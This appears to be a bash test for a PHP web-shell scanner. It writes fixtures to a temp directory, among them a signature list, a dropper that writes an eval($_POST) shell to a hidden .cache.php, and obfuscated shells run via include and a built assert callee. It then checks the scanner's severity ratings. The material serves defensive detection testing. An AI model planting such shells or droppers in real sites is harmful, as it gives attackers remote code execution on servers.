#!/usr/bin/env bash
# Quoted code end to end: PHP that holds web-shell code in a string literal
# without running it (a test suite, a signature list) is medium, with the
# tag quoted-code and the note in the evidence; a dropper that writes the
# same literal to a file is critical through the PHP layer (php.code_drop);
# a shell that keeps its code in a literal and runs it stays critical. Files
# have neutral names: nothing is judged by a file name.
. "$(dirname "$0")/../lib.sh"
t=$(mktemp_dir)
mkdir -p "$t/app/tests" "$t/app/lib" "$t/www"
cat >"$t/app/tests/a1.php" <<'EOF'
<?php
declare(strict_types=1);
namespace App\Tests;
use PHPUnit\Framework\TestCase;
final class UploadFilterTest extends TestCase
{
    public static function shells(): array
    {
        return [
            ['<?php eval($_POST["x"]); ?>'],
            [<<<'PHP'
<?php if (isset($_GET['c'])) { system($_GET['c']); }
PHP],
        ];
    }
    /** @dataProvider shells */
    public function testRejects(string $code): void
    {
        $esc = fn (string $s): string => htmlspecialchars($s, ENT_QUOTES);
        $this->assertFalse((new UploadFilter())->accepts('a.php', $code));
        $this->assertStringNotContainsString('<?php', $esc($code));
    }
}
EOF
cat >"$t/app/lib/a2.php" <<'EOF'
<?php
$guard_signatures = array(
    'eval-post' => 'eval($_POST[',
    'system-get' => 'system($_GET[',
    'assert-req' => 'assert($_REQUEST[',
);
function guard_scan($file, $sigs) {
    $text = (string) file_get_contents($file);
    foreach ($sigs as $id => $needle)
        if (stripos($text, $needle) !== false) return $id;
    return null;
}
EOF
cat >"$t/www/a3.php" <<'EOF'
<?php
$dst = dirname(__FILE__) . '/.cache.php';
if (!file_exists($dst)) {
    $h = fopen($dst, 'w');
    fwrite($h, '<?php eval($_POST["x"]); ?>');
    fclose($h);
}
echo 'ok';
EOF
cat >"$t/www/a4.php" <<'EOF'
<?php
$c = '<?php eval($_POST["x"]); ?>';
$t = tempnam(sys_get_temp_dir(), 'x');
file_put_contents($t, $c);
include $t;
EOF
cat >"$t/www/a5.php" <<'EOF'
<?php
$c = 'eval($_POST["x"]);';
$f = 'as' . 'sert';
$f($c);
EOF
hs --format json --full --rules "$SRC/rules" --signatures "$SRC/signatures" scan "$t"
check "scan: exit 1, valid JSON" sh -c "[ $RC = 1 ] && python3 -c 'import json,sys;[json.loads(l) for l in open(sys.argv[1])]' '$OUT'"
sev() { jq_py "$OUT" "[f['severity'] for f in F if f['path'].endswith('/$1')]"; }
q1=$(jq_py "$OUT" "[('webshell.webshell_php_eval_request' in (f.get('quoted_code') or []), 'quoted-code' in f['tags'], (f['evidence'] or '').startswith('inside a string literal, not run: ')) for f in F if f['path'].endswith('/a1.php')]")
drop=$(jq_py "$OUT" "[h['path'].startswith('PHP code -> fwrite') for f in F if f['path'].endswith('/a3.php') for h in f.get('php', []) if h['rule'] == 'php.code_drop']")
tagged=$(jq_py "$OUT" "sum(1 for f in F if 'quoted-code' in f['tags'] and f['path'][-6:] in ('a3.php', 'a4.php', 'a5.php'))")
check "test suite: medium" [ "$(sev a1.php)" = "['medium']" ]
check "test suite: quoted_code names the rule, tag, note in the evidence" [ "$q1" = "[(True, True, True)]" ]
check "signature list: medium" [ "$(sev a2.php)" = "['medium']" ]
check "dropper (fwrite of a literal shell): critical" [ "$(sev a3.php)" = "['critical']" ]
check "dropper: php.code_drop names the write" [ "$drop" = "[True]" ]
check "literal run through an include of a temp file: critical" [ "$(sev a4.php)" = "['critical']" ]
check "literal run through a built callee: critical" [ "$(sev a5.php)" = "['critical']" ]
check "no quoted-code tag on the shells" [ "$tagged" = 0 ]
exit $HS_FAILED
